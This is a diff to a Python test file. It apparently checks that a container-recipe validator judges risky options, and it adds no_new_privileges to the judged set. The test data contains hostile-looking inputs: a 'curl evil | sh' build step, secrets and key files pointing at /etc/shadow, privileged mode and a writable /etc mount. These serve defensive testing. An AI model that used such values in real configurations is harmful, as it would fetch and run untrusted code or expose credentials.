@@ -196,6 +196,7 @@ IGNORED: tuple[Change, ...] = (
     section("cluster", key_file="/etc/shadow", report_port=1, follow_head=False,
             allow={"images": ["evil"], "mounts": ["/etc:rw"], "privileged": True}),
     lambda one: one["recipe"].update(secrets={"X": "/etc/shadow"}, host={"sysctls": {"vm.overcommit_memory": 2}}),
+    container(no_new_privileges=False),
     lambda one: one["recipe"]["image"].update(build="curl evil | sh"),
     lambda one: one.update(image_id="sha256:" + "a" * 64),
     lambda one: one.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
@@ -265,8 +266,8 @@ def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
     """A new one needs a decision in base.plan.allowed."""
     from sparkd.base.recipes.schema import Container
 
-    judged = {"privileged", "ulimits", "devices", "volumes"}
-    inside = {"gpus", "ipc", "network", "no_new_privileges", "init", "shm_bytes", "memory_limit_bytes"}
+    judged = {"privileged", "no_new_privileges", "ulimits", "devices", "volumes"}
+    inside = {"gpus", "ipc", "network", "init", "shm_bytes", "memory_limit_bytes"}
     assert set(Container.model_fields) == judged | inside
     assert Container.model_fields["network"].annotation.__args__ == ("host",)  # type: ignore[union-attr]
 
